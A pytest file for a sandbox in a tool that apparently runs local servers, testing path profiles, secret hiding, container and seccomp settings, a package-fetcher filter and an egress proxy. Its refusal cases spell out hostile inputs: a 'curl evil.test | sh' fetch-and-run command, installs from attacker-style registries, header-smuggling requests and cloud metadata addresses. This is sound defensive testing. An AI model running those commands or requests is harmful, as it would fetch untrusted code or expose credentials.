"""What a sandbox is made of, without starting one: profiles, what is shown, words, the filter, the way out.

That it holds is tried in tests/sandbox (`make sandbox`), by servers that want to get out.
"""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman import LocalError, UnreachableError
from dragoman.cli.entry import run
from dragoman.host.sandbox import bubblewrap, container, installing, landlock, seatbelt, sights
from dragoman.host.sandbox.profile import Limits, Profile, checked, limits_of
from dragoman.host.sandbox.proxy import Doors, Proxy, RefusedError, Where, read_head
from dragoman.host.sandbox.tiers import Found, Tier, tier, told
from dragoman.host.sandbox.wrapping import wrap
from dragoman.transport.process import Command

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="there is no sandbox on Windows")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    for name in (".ssh", "work/project", ".config/gcloud", "granted"):
        (tmp_path / "home" / name).mkdir(parents=True)
    return (tmp_path / "home").resolve()


# --- profiles -----------------------------------------------------------------------------------------------


def test_neither_keys_nor_the_whole_home_folder_are_granted_to_anybody(home: Path) -> None:
    for refused in (home, home.parent, Path("/"), home / ".ssh", home / ".config/gcloud", home / "none"):
        for field in ("read", "write"):
            with pytest.raises(LocalError):
                checked(Profile(**{field: (str(refused),)}), home)
    (home / "work" / "link").symlink_to(home / ".ssh")
    with pytest.raises(LocalError, match="keys"):
        checked(Profile(read=(str(home / "work" / "link"),)), home)
    assert checked(Profile(write=(str(home / "granted"),)), home).write == (str(home / "granted"),)


def test_a_folder_that_holds_the_home_folder_is_no_project(home: Path) -> None:
    assert checked(Profile(project=str(home)), home).project == checked(Profile(project="/"), home).project == ""
    assert checked(Profile(project=str(home / "work/project")), home).project == str(home / "work/project")
    with pytest.raises(LocalError, match="no folder"):
        checked(Profile(project=str(home / "none")), home)


@pytest.mark.parametrize("host", ["", "a b", "http://a", "a/b", "*", "*.*", "a:b", "a:99999999", "[::1"])
def test_a_host_that_cannot_be_meant_is_refused(host: str, home: Path) -> None:
    if host != "*":
        with pytest.raises(LocalError, match="no host"):
            checked(Profile(connect=(host,)), home)
    for good in ("api.example.com", "*.example.com:8443", "10.0.0.1:80", "[::1]:8000", "localhost"):
        assert checked(Profile(connect=(good,)), home).connect == (good,)


def test_limits_are_set_by_name() -> None:
    assert limits_of({"memory": "2G", "processes": "0"}) == Limits(memory=2 * 1024**3, processes=0)
    for wrong in ({"memry": "1"}, {"memory": "two"}, {"memory": "-1"}, {"memory": "1T"}):
        with pytest.raises(LocalError):
            limits_of(wrong)


def test_what_is_told_of_a_profile_changes_with_it_and_holds_no_values() -> None:
    profile = Profile(project="/p", env={"TOKEN": "canary"})
    assert "canary" not in profile.told() and "TOKEN" in profile.told()
    others = [
        msgspec.structs.replace(profile, **{name: value})
        for name, value in (
            ("read", ("/r",)), ("write", ("/w",)), ("connect", ("a.b",)), ("connect", ("*",)), ("env", {"B": ""}),
            ("limits", Limits(cpu=1)), ("image", "i"), ("project", ""),
        )
    ]  # fmt: skip
    assert len({one.told() for one in [profile, *others]}) == 9


# --- what is shown ------------------------------------------------------------------------------------------


def program(path: Path, text: str = "#!/bin/sh\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return path


def test_a_program_is_shown_with_what_it_is_installed_with(home: Path) -> None:
    node = program(home / ".nvm/versions/v22/bin/node")
    assert sights.needed([str(node)], "", home, {}) == (str(node), str(node.parent.parent))
    own = program(home / "bin/server")
    assert sights.needed([str(own)], "", home, {}) == (str(own),)
    local = program(home / ".local/bin/server")
    assert sights.needed([str(local)], "", home, {}) == (str(local),)


def test_an_environment_of_python_is_shown_with_the_python_that_it_was_made_from(home: Path) -> None:
    base = program(home / ".pyenv/versions/3.12/bin/python3.12")
    venv = home / "work/.venv"
    program(venv / "bin/server", f"#!{venv}/bin/python\n")
    (venv / "bin/python").symlink_to(base)
    (venv / "pyvenv.cfg").write_text(f"home = {base.parent}\nversion = 3.12\n")
    shown = sights.needed([str(venv / "bin/server")], "", home, {})
    assert {str(venv), str(base.parent.parent)} <= set(shown) and str(home) not in shown


def test_a_script_is_shown_with_its_folder_and_keys_never(home: Path) -> None:
    script = program(home / "work/tools/server.py")
    assert sights.needed(["/usr/bin/python3", "-u", str(script)], "", home, {}) == (str(script.parent),)
    at_home = program(home / "server.py")
    assert sights.needed(["/usr/bin/python3", str(at_home)], "", home, {}) == (str(at_home),)
    hidden = program(home / ".ssh/server.py")
    assert sights.needed(["/usr/bin/python3", str(hidden)], "", home, {}) == ()
    with pytest.raises(UnreachableError, match="no program"):
        sights.resolved("no-such-program", "", os.defpath)


def test_bubblewrap_gets_no_secret_among_its_words(home: Path) -> None:
    (home / "work/project/.env").write_text("x")
    profile = Profile(project=str(home / "work/project"), env={"TOKEN": "canary", "LD_PRELOAD": "/x.so"})
    words = bubblewrap.words("bwrap", ["/bin/true", "--a b"], profile, home)
    assert not any("canary" in word for word in words)
    # What loads code must not load it into bubblewrap itself, so it is set within.
    assert words[words.index("--setenv") + 1 :][:2] == ["LD_PRELOAD", "/x.so"]
    assert "--unshare-net" in words and words[-2:] == ["/bin/true", "--a b"]
    online = bubblewrap.words("bwrap", ["/bin/true"], Profile(connect=("*",)), home)
    assert "--unshare-net" not in online


def test_keys_within_a_granted_folder_are_covered(home: Path) -> None:
    profile = Profile(read=(str(home / ".config"),))
    words = bubblewrap.words("bwrap", ["/bin/true"], profile, home)
    granted, covered = words.index(str(home / ".config")), words.index(str(home / ".config/gcloud"))
    assert covered > granted and words[covered - 1] == "--tmpfs"


# --- tiers --------------------------------------------------------------------------------------------------


def test_where_no_tier_works_nothing_is_started_and_the_flag_that_overrides_it_is_named() -> None:
    for wanted, profile in ((Tier.CONTAINER, Profile()), (Tier.LANDLOCK, Profile(connect=("a.test",)))):
        with pytest.raises(LocalError, match=r"nothing was started.*--tier none"):
            tier(profile, wanted)
    assert tier(Profile(), Tier.NONE).tier is Tier.NONE
    assert "whatever you can" in told(Found(Tier.NONE), Profile())


def test_where_the_strongest_does_not_work_the_others_are_tried_and_each_reason_is_said(tmp_path: Path) -> None:
    # Without bwrap and docker on the path, and with a list of hosts, which Landlock cannot hold.
    words = [sys.executable, "-P", "-m", "dragoman", "run", "--sandbox", "--connect", "a.test", "--", "/bin/true"]
    done = subprocess.run(words, env={"PATH": str(tmp_path)}, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 2 and "nothing was started" in done.stderr and "--tier none" in done.stderr
    assert all(f"{one}: " in done.stderr for one in ("container", "bubblewrap", "landlock", "seatbelt"))


def test_the_command_line_refuses_what_it_cannot_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is spawned: see the audit hook of tests/security/test_launching.py for files."""
    monkeypatch.chdir(tmp_path)
    for words in (
        ["--sandbox"], ["--sandbox", "a.py", "--", "true"], ["--sandbox", "--tier", "x", "--", "true"],
        ["--read", "/x", "a.py"], ["--sandbox", "--env", "NO_SUCH_VARIABLE", "--", "true"],
        ["--sandbox", "--limit", "memory", "--", "true"], ["--sandbox", "--read", "/", "--", "true"], [],
    ):  # fmt: skip
        assert run(["run", *words]) == 2


def test_wrapping_says_the_profile_and_keeps_loaders_out_of_our_own_process() -> None:
    command = Command(words=("server", "--flag"), env={"TOKEN": "canary", "PYTHONPATH": "/x"}, cwd="/srv")
    held = wrap(command, Profile(connect=("a.test",), limits=Limits(cpu=5)), Tier.BUBBLEWRAP)
    assert held.words[-3:] == ("--", "server", "--flag") and "canary" not in " ".join(held.words)
    assert held.env == {"TOKEN": "canary"} and "PYTHONPATH=/x" in held.words and held.words[1] == "-P"
    for flags in (("--project", "/srv"), ("--connect", "a.test"), ("--limit", "cpu=5"), ("--tier", "bubblewrap")):
        assert " ".join(flags) in " ".join(held.words)


def test_a_container_gets_names_of_variables_and_no_capability() -> None:
    profile = Profile(project="/srv", write=("/data",), env={"TOKEN": "canary"}, image="python:3.12")
    words = container.words("docker", ["server"], profile, "name")
    said = " ".join(words)
    assert "canary" not in said and "--env TOKEN" in said and "--network none" in said and "--cap-drop ALL" in said
    assert "source=/srv,target=/srv,readonly" in said and said.endswith("python:3.12 server")
    with pytest.raises(LocalError, match="list of hosts"):
        container.words("docker", ["server"], Profile(image="i", connect=("a.test",)), "name")


def test_the_profile_for_macos_denies_first_and_quotes_what_it_is_given(home: Path) -> None:
    odd = home / 'work/a"b'
    odd.mkdir()
    text = seatbelt.text(["/usr/bin/true"], Profile(project=str(odd)), home, "/private/tmp/x")
    assert text.splitlines()[1] == "(deny default)" and "(allow network*)" not in text
    assert 'a\\"b' in text and f'(deny file-read* file-write* (subpath "{home}/.ssh"))' in text
    assert "(allow network*)" in seatbelt.text(["/usr/bin/true"], Profile(connect=("*",)), home, "/private/tmp/x")


ALLOW, KILL, REFUSE = 0x7FFF0000, 0x80000000, 0x0005000D


def filtered(machine: str, architecture: int, number: int, first: int) -> int:
    """Run the filter as the kernel would."""
    words = {0: number, 4: architecture, 16: first}
    lines, at, held = landlock.program(machine), 0, 0
    while True:
        code, yes, no, value = lines[at]
        if code == 0x06:
            return value
        if code == 0x20:
            held, at = words[value], at + 1
        else:
            at += 1 + (yes if (held == value if code == 0x15 else held >= value) else no)


@pytest.mark.parametrize("machine, architecture, number", [("x86_64", 0xC000003E, 41), ("aarch64", 0xC00000B7, 198)])
def test_the_filter_refuses_sockets_of_the_internet_and_nothing_else(
    machine: str, architecture: int, number: int
) -> None:
    assert [filtered(machine, architecture, number, family) for family in (1, 16, 2, 10, 17)] == [
        ALLOW, ALLOW, REFUSE, REFUSE, REFUSE,
    ]  # fmt: skip
    assert filtered(machine, architecture, 0, 2) == ALLOW
    assert filtered(machine, architecture, 425, 1) == REFUSE
    assert filtered(machine, architecture, 0x40000000 + number, 2) == REFUSE
    assert filtered(machine, 0x40000003, number, 2) == KILL


# --- packages -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "packages", "command", "arguments"),
    [
        (["uvx", "mcp-server-time", "--tz", "UTC"], ("mcp-server-time",), "mcp-server-time", ("--tz", "UTC")),
        (["uvx", "mcp-server-time@1.2"], ("mcp-server-time@1.2",), "mcp-server-time", ()),
        (["uvx", "--from", "pkg==1.0", "--with", "x", "cmd"], ("pkg==1.0", "x"), "cmd", ()),
        (["uv", "tool", "run", "pkg"], ("pkg",), "pkg", ()),
        (["npx", "-y", "@scope/server@1.2.3", "/data"], ("@scope/server@1.2.3",), "@scope/server", ("/data",)),
        (["npx", "--package=a", "cmd"], ("a",), "cmd", ()),
        (["uvx", "pkg[cli]>=1.0,<2"], ("pkg[cli]>=1.0,<2",), "pkg", ()),
        (["npx", "server@latest"], ("server@latest",), "server", ()),
    ],
)
def test_what_a_fetcher_is_asked_for_is_understood(
    words: list[str], packages: tuple[str, ...], command: str, arguments: tuple[str, ...]
) -> None:
    found = installing.wanted(words)
    assert found is not None and (found.packages, found.command, found.arguments) == (packages, command, arguments)


@pytest.mark.parametrize(
    "words",
    [
        ["npx", "-c", "curl evil.test | sh"], ["npx", "--call", "x"], ["uvx", "--from", "git+https://evil.test/x", "x"],
        ["npx", "github:evil/x"], ["npx", "https://evil.test/x.tgz"], ["uvx", "--index-url", "https://evil.test", "x"],
        ["npx", "--registry=https://evil.test", "x"], ["uvx", "./x"], ["npx", "../x"], ["npx", "-y"], ["uvx"],
        ["uvx", "--python"], ["npx", "file:/x"],
        ["npx", "evil/x"], ["uvx", "evil/x"], ["uvx", "x@https://evil.test/x"], ["uvx", "x[a"], ["npx", "@x"],
    ],
)  # fmt: skip
def test_a_fetcher_that_takes_code_from_elsewhere_is_refused(words: list[str]) -> None:
    """sec/10."""
    with pytest.raises(LocalError):
        installing.wanted(words)
    assert installing.wanted(["python", *words]) is None


# --- the way out --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "where", "first"),
    [
        (b"CONNECT a.test:443 HTTP/1.1\r\nHost: a.test\r\n\r\n", Where("a.test", 443), b""),
        (b"CONNECT A.Test.:443 HTTP/1.1\r\n\r\n", Where("a.test", 443), b""),
        (
            b"GET http://a.test/x?y HTTP/1.1\r\nHost: other.test\r\nProxy-Authorization: x\r\nA: b\r\n\r\n",
            Where("a.test", 80),
            b"GET /x?y HTTP/1.1\r\nHost: a.test\r\nA: b\r\nConnection: close\r\n\r\n",
        ),
        (
            b"GET http://a.test:8080 HTTP/1.1\r\n\r\n",
            Where("a.test", 8080),
            b"GET / HTTP/1.1\r\nHost: a.test:8080\r\nConnection: close\r\n\r\n",
        ),
    ],
)
def test_a_request_to_the_proxy_is_read(head: bytes, where: Where, first: bytes) -> None:
    assert read_head(head) == (where, first)


@pytest.mark.parametrize(
    "head",
    [
        b"GET / HTTP/1.1\r\n\r\n", b"CONNECT a.test HTTP/1.1\r\n\r\n", b"CONNECT a.test:443\r\n\r\n",
        b"GET https://a.test/ HTTP/1.1\r\n\r\n", b"GET http://u:p@a.test/ HTTP/1.1\r\n\r\n", b"\r\n\r\n",
        b"CONNECT a.test:443/x HTTP/1.1\r\n\r\n", b"GET file:///etc HTTP/1.1\r\n\r\n",
        b"CONNECT [::1:443 HTTP/1.1\r\n\r\n",
        # Another server would find a second name, or a second request, behind what ends no line here.
        b"GET http://a.test/ HTTP/1.1\r\nA: b\nHost: other.test\r\n\r\n",
        b"GET http://a.test/ HTTP/1.1\r\nA: b\rHost: other.test\r\n\r\n",
        b"GET http://a.test/ HTTP/1.1\r\nA: b\n\nGET http://other.test/ HTTP/1.1\r\n\r\n",
        b"GET http:/\n\n/ae/b? HTTP/1.1\r\n\r\n", b"GET http://a\t.test/ HTTP/1.1\r\n\r\n",
    ],
)  # fmt: skip
def test_what_is_no_request_to_a_proxy_is_refused(head: bytes) -> None:
    with pytest.raises(RefusedError):
        read_head(head)


@given(st.binary(max_size=80))
def test_any_head_is_read_or_refused(head: bytes) -> None:
    for said in (head, b"CONNECT " + head + b" HTTP/1.1", b"GET http://" + head + b" HTTP/1.1"):
        try:
            where, first = read_head(said + b"\r\n\r\n")
        except RefusedError:
            continue
        assert where.host and 0 <= where.port < 65536 and first.count(b"\r\n\r\n") == (1 if first else 0)


@pytest.mark.parametrize(
    ("hosts", "where", "found"),
    [
        (["a.test"], ("a.test", 443), True),
        (["a.test"], ("a.test", 80), True),
        (["a.test"], ("a.test", 22), None),
        (["a.test:22"], ("a.test", 22), True),
        (["a.test:22"], ("a.test", 443), None),
        (["*.a.test"], ("b.a.test", 443), False),
        (["*.a.test"], ("a.test", 443), None),
        (["*.a.test"], ("ba.test", 443), None),
        (["a.test"], ("a.test.evil.test", 443), None),
        (["*.1"], ("127.0.0.1", 443), None),
        (["127.0.0.1:9"], ("127.0.0.1", 9), True),
        ([], ("a.test", 443), None),
    ],
)
def test_only_named_hosts_are_let_through(hosts: list[str], where: tuple[str, int], found: bool | None) -> None:
    """sec/04: `found` says whether the host may be near."""
    if found is None:
        with pytest.raises(RefusedError):
            Doors(hosts).judge(Where(*where))
    else:
        assert Doors(hosts).judge(Where(*where)) is found


async def asked(hosts: list[str], name: str, port: int, refused: list[str], address: str = "127.0.0.1") -> bytes:
    """Return what a client that asks for a tunnel gets, having sent a word through it if there is one."""

    async def resolve(host: str, port: int) -> list[str]:
        return [address]

    listener = socket.create_server(("127.0.0.1", 0))
    task = asyncio.create_task(Proxy(hosts, refused.append, resolve).serve(listener))
    reader, writer = await asyncio.open_connection(*listener.getsockname())
    writer.write(f"CONNECT {name}:{port} HTTP/1.1\r\n\r\n".encode())
    head = await reader.readuntil(b"\r\n\r\n")
    if head.startswith(b"HTTP/1.1 200"):
        writer.write(b"hello")
        head += await reader.read()
    writer.close()
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)
    return head


async def test_a_wildcard_leads_nowhere_near_and_a_name_that_was_written_does() -> None:
    """sec/04: nor does any name lead to where clouds keep credentials."""

    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(await reader.read(100))
        writer.close()

    far = await asyncio.start_server(echo, "127.0.0.1", 0)
    port = far.sockets[0].getsockname()[1]
    refused: list[str] = []
    assert (await asked([f"api.a.test:{port}"], "api.a.test", port, refused)).endswith(b"\r\n\r\nhello")
    assert refused == []
    assert (await asked([f"*.a.test:{port}"], "api.a.test", port, refused)).startswith(b"HTTP/1.1 403")
    for address in ("169.254.169.254", "0.0.0.0", "224.0.0.1", "fe80::1", "100.100.100.200"):
        head = await asked([f"api.a.test:{port}"], "api.a.test", port, refused, address)
        assert head.startswith(b"HTTP/1.1 403")
    assert len(refused) == 6 and all("may not reach" in text for text in refused)
    far.close()
